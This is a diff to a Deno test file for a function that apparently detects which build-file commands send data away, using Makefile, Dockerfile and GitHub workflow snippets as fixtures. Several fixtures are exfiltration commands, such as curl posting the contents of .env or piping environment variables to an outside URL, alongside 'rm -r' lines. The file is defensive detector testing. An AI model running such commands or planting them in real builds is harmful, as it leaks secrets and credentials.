@@ -44,6 +44,7 @@ Deno.test("what runs only when it is asked for is judged then", () => {
 Deno.test("what builds and workflows send away is judged, and nothing else that they do", () => {
   const out = "https://example.com/in";
   assertEquals(effectsOf("Makefile", "all:", `\t@curl -d "$$(cat .env)" ${out}`, "\trm -r y"), ["send"]);
+  assertEquals(effectsOf("Makefile", `\tcurl -d "$(DATA)" ${out}`, "\trm -r $(OUT)"), ["send"]);
   assertEquals(effectsOf("Dockerfile", "RUN rm -r y && \\", `  env | curl -d @- ${out}`), ["send"]);
   assertEquals(effectsOf(".github/workflows/a.yml", "- run: rm -r y", `- run: curl -d x ${out}`), ["send"]);
   assertEquals(effectsOf(".github/workflows/a.yml", "run: |", `  curl -d x ${out}`, "name: z"), ["send"]);
